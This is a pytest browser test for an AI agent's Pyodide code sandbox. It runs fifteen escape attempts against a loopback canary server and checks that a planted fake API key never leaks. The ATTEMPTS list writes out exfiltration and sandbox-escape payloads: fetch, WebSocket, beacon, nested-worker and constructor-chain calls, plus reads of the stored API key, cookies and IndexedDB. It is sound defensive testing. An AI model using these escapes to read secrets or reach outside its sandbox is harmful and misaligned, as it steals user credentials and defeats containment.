"""Sandboxed code reaches nothing: every way out is tried for real against a canary server on loopback.

(SECURITY-CASES 6-9.) Each attempt runs in its own cell; a synchronous JS error may skip Python's try/except
and fail the cell, which is fine: what counts is that the canary heard nothing and no secret came back.
"""

from __future__ import annotations

import http.server
import threading

import pytest

from tests.tally import tally

pytestmark = pytest.mark.browser
SECRET = "sk-canary-secret-7f3a"


class Canary(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        self.hits: list[str] = []
        canary = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _hit(self) -> None:
                canary.hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = do_OPTIONS = _hit  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)


@pytest.fixture
def canary():  # noqa: ANN201
    server = Canary()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", server
    server.shutdown()


ATTEMPTS = [
    "js.fetch(URL + '/fetch')",
    "x = js.XMLHttpRequest.new(); x.open('GET', URL + '/xhr', False); x.send()",
    "js.WebSocket.new(URL.replace('http', 'ws') + '/ws')",
    "js.EventSource.new(URL + '/sse')",
    "js.importScripts(URL + '/import-scripts.js')",
    "js.eval(\"import('\" + URL + \"/dynamic-import.js')\")",
    "js.Function.new(\"return fetch('\" + URL + \"/function')\")()",
    "js.eval(\"new Worker(URL.createObjectURL(new Blob(['fetch(\\\\\\\"\" + URL + \"/nested\\\\\\\")'])))\")",
    "js.navigator.sendBeacon(URL + '/beacon', 'x')",
    "print(js.eval('this.constructor.constructor(\"return fetch\")()')(URL + '/ctor'))",
    "print(js.localStorage.getItem('codeact.apiKey'))",
    "print(js.eval('self.parent.document.cookie'))",
    "print(js.eval('indexedDB.open(\"codeact-secrets\")'))",
    "print(js.eval('caches.open(\"codeact-pyodide-snapshot\")'))",
    "print(js.eval('new BroadcastChannel(\"codeact\").postMessage(1)'))",
]

SETUP = """
from agent_py.sandbox import BrowserSandbox
box = await BrowserSandbox.create("escape", timeout_ms=3000)
outputs = []
await box.run("import js\\nURL = " + repr(URL))
for attempt in ATTEMPTS:
    cell = "import js\\ntry:\\n    " + attempt + "\\nexcept BaseException as e:\\n    print('blocked:', e)"
    result = await box.run(cell)
    outputs.append(result)
outputs
"""


@pytest.mark.parametrize("mode", ["isolated", "plain"])
def test_no_way_out_reaches_the_canary_or_the_secrets(page, app_url, app_url_plain, canary, mode) -> None:  # noqa: ANN001
    url, server = canary
    page.goto(app_url if mode == "isolated" else app_url_plain)
    page.wait_for_function("document.body.dataset.pythonReady === 'true'", timeout=60_000)
    page.evaluate(f"""async () => {{
        localStorage.setItem('codeact.apiKey', '{SECRET}');
        sessionStorage.setItem('codeact.apiKey', '{SECRET}');
        document.cookie = 'key={SECRET}';
        await new Promise((resolve) => {{
          const open = indexedDB.open('codeact-secrets', 1);
          open.onupgradeneeded = () => open.result.createObjectStore('s');
          open.onsuccess = () => {{ const tx = open.result.transaction('s', 'readwrite');
            tx.objectStore('s').put('{SECRET}', 'k'); tx.oncomplete = resolve; }};
        }});
    }}""")
    code = f"URL = {url!r}\nATTEMPTS = {ATTEMPTS!r}\n" + SETUP
    tally("escape attempts tried", len(ATTEMPTS))
    outputs = page.evaluate("(c) => window.codeact.agent.execPython(c)", code)
    page.wait_for_timeout(1500)  # anything sent late (a nested worker, a beacon) would have arrived by now
    assert server.hits == [], server.hits
    assert SECRET not in str(outputs)
    assert len(outputs) == len(ATTEMPTS)
    # The session survived every attempt.
    assert page.evaluate("(c) => window.codeact.agent.execPython(c)",
                         "from agent_py.sandbox import BrowserSandbox\nb = await BrowserSandbox.create('after')\n"
                         "(await b.run('print(6*7)'))['stdout']") == "42\n"
    tally("escape attempts blocked", len(ATTEMPTS))
